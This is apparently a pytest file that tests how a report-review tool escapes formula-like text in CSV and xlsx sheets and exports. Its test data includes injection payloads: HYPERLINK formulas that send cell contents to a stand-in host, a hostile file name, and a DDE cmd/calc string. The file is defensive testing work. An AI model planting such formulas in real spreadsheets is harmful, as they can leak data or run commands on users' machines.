"""Spreadsheet formula injection: text from a PDF, a correction or a file name that a spreadsheet
would run as a formula (`=HYPERLINK(...)` sends cells to another site) is only ever text.

The xlsx sheet stores such a cell as a string cell (never `<f>`); the CSV review sheet and the
CSV export put a `'` before it (OWASP's advice); `review apply` takes the `'` off again, so a
sheet applied unedited changes nothing. The JSON export keeps the values as they are.
"""
from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import openpyxl
import pytest

from loopback import parsing_here
from pipeline.review.spreadsheet import escape, unescape
from test_review import audit_rows, copy_db, export, hmicfrs, ids, make_pdf, rules_copy
from test_review_sheet import ROW, apply, edit

# A file name can start a formula too; the report is ingested under this name.
HOSTILE_FILE = '=HYPERLINK("x.example?"&A2,"vetting").pdf'

# value as printed (or corrected) -> the CSV cell; near-misses stay as they are
CELLS = [
    ('=HYPERLINK("http://x.example/?"&A1,"Recommendation 1")', '\'=HYPERLINK("http://x.example/?"&A1,"Recommendation 1")'),
    ("+44 20 7946 0000 is the number to call.", "'+44 20 7946 0000 is the number to call."),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    # A leading apostrophe that is in the text gets one more, so taking one off gives it back.
    ("'Trust' is the word the report uses.", "''Trust' is the word the report uses."),
    ("'=1+1'", "''=1+1'"),
    ("-3", "-3"),
    ("+3.5", "+3.5"),
    ("2024-03-31", "2024-03-31"),
    ("Costs = £3m, the force says.", "Costs = £3m, the force says."),
    ("Chief constables should act - now.", "Chief constables should act - now."),
    ("=", "'="),
]
# Only the escaping function sees these: item text has its whitespace collapsed.
RAW_CELLS = [
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("", ""),
    ("'", "''"),
    ("a'=b", "a'=b"),
]
FORMATS = ["csv", "xlsx"]


@pytest.mark.parametrize("value, escaped", CELLS + RAW_CELLS, ids=repr)
def test_escape_and_unescape_are_each_others_inverse(value, escaped):
    assert escape(value) == escaped
    assert unescape(escaped) == value


@pytest.mark.parametrize("value", [-3, 2, 3.5, None])
def test_numbers_and_empty_cells_are_left_alone(value):
    assert escape(value) == value


@pytest.mark.parametrize("cell", ["'hello", "'3", "'-3", "hello", "=1", "'"])
def test_a_leading_apostrophe_not_put_there_by_escaping_is_kept(cell):
    # "'hello" cannot come out of escape(): it is what a person typed, and stays.
    assert unescape(cell) == cell


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> Path:
    directory = tmp_path_factory.mktemp("formula-template")
    pdf = make_pdf(directory / HOSTILE_FILE)
    db = directory / "template.db"
    with parsing_here():
        hmicfrs("ingest", "--workers", 1, "--quiet", "--db", db, "--rules", rules_copy(directory), pdf)
    return db


@pytest.fixture
def db(template: Path, tmp_path: Path) -> Path:
    return copy_db(template, tmp_path / "formulas.db")


@pytest.fixture(scope="module")
def item_ids(template: Path, tmp_path_factory) -> dict[str, str]:
    """ids(db) before a test writes to its copy: the same for every copy, so taken once."""
    return ids(copy_db(template, tmp_path_factory.mktemp("formula-ids") / "formulas.db"))


@pytest.fixture
def names(item_ids: dict[str, str]) -> dict[str, str]:
    return dict(item_ids)


def sheet_of(db: Path, fmt: str) -> Path:
    path = db.parent / f"review.{fmt}"
    hmicfrs("review", "sheet", "--db", db, "--format", fmt, "-o", path)
    return path


def csv_cells(text: str, cells: list[tuple[int, str]]) -> list[str]:
    rows = list(csv.DictReader(io.StringIO(text)))
    return [rows[row - 2][column] for row, column in cells]


def xlsx_cells(path: Path, cells: list[tuple[int, str]]) -> list[str]:
    """The stored values of cells, each of which must be a string cell, and no formula anywhere
    in the sheet. The file is read once for all of them."""
    with zipfile.ZipFile(path) as book:
        xml = "".join(book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml
    sheet = openpyxl.load_workbook(path).active
    header = [cell.value for cell in sheet[1]]
    values = []
    for row, column in cells:
        cell = sheet.cell(row=row, column=header.index(column) + 1)
        assert cell.data_type in ("s", "inlineStr"), (cell.value, cell.data_type)
        values.append(cell.value)
    return values


def sheet_cells(path: Path, fmt: str, cells: list[tuple[int, str]]) -> list[str]:
    if fmt == "csv":
        return csv_cells(path.read_text(encoding="utf-8"), cells)
    return xlsx_cells(path, cells)


def sheet_cell(path: Path, fmt: str, row: int, column: str) -> str:
    return sheet_cells(path, fmt, [(row, column)])[0]


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("value, escaped", CELLS, ids=repr)
def test_formula_like_text_is_text_in_the_sheet_and_round_trips(db, names, fmt, value, escaped):
    item = names["rec1"]
    hmicfrs("review", "correct", item, "--db", db, "--set", f"text={value}")
    before, logged = export(db), audit_rows(db)
    sheet = sheet_of(db, fmt)
    assert sheet_cell(sheet, fmt, ROW["rec1"], "text") == (escaped if fmt == "csv" else value)
    result = apply(db, sheet)
    assert result.stdout == "" and "applied 0 changes" in result.stderr
    assert export(db) == before and audit_rows(db) == logged


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_formula_like_file_name_is_text_in_the_sheet(db, fmt):
    sheet = sheet_of(db, fmt)
    expected = "'" + HOSTILE_FILE if fmt == "csv" else HOSTILE_FILE
    *files, deadline = sheet_cells(sheet, fmt, [*((row, "report_file") for row in ROW.values()),
                                                (ROW["rec1"], "deadline_date")])
    assert set(files) == {expected}
    # Numbers and dates stay numbers and dates.
    assert deadline == "2024-03-31"
    if fmt == "xlsx":
        assert openpyxl.load_workbook(sheet).active.cell(row=ROW["rec1"], column=3).value == 2
    assert "applied 0 changes" in apply(db, sheet).stderr


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_edit_to_formula_like_text_applies_as_typed(db, names, fmt):
    # Whoever edits the sheet types text; what they typed is what the item gets, with no '.
    sheet = sheet_of(db, fmt)
    if fmt == "csv":
        edit(sheet, {(ROW["rec2"], "text"): "'=1+1 is in the text", (ROW["rec3"], "deadline_text"): "-1 day"})
    else:
        # Typed into Excel as '=1+1 ...: a string cell.
        book = openpyxl.load_workbook(sheet)
        header = [cell.value for cell in book.active[1]]
        for row, column, typed in ((ROW["rec2"], "text", "=1+1 is in the text"), (ROW["rec3"], "deadline_text", "-1 day")):
            cell = book.active.cell(row=row, column=header.index(column) + 1)
            cell.value, cell.data_type = typed, "s"
        book.save(sheet)
    assert "applied 2 changes" in apply(db, sheet).stderr
    exported = {o["id"]: o for o in export(db)}
    assert exported[names["rec2"]]["text"] == "=1+1 is in the text"
    assert exported[names["rec3"]]["deadline"]["text"] == "-1 day"


@pytest.mark.parametrize("value, escaped", CELLS, ids=repr)
def test_the_csv_export_escapes_what_the_json_export_keeps(db, names, value, escaped):
    item = names["rec1"]
    hmicfrs("review", "correct", item, "--db", db, "--set", f"text={value}", "--set", f"deadline_text={value}")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(
        hmicfrs("export", "--db", db, "--format", "csv").stdout))}
    assert (rows[item]["text"], rows[item]["deadline_text"]) == (escaped, escaped)
    assert rows[item]["report_file"] == "'" + HOSTILE_FILE
    assert (rows[item]["page"], rows[item]["deadline_date"]) == ("2", "2024-03-31")
    [obj] = [json.loads(line) for line in hmicfrs("export", "--db", db, "--format", "jsonl").stdout.splitlines()
             if json.loads(line)["id"] == item]
    assert (obj["text"], obj["deadline"]["text"], obj["report"]["file"]) == (value, value, HOSTILE_FILE)
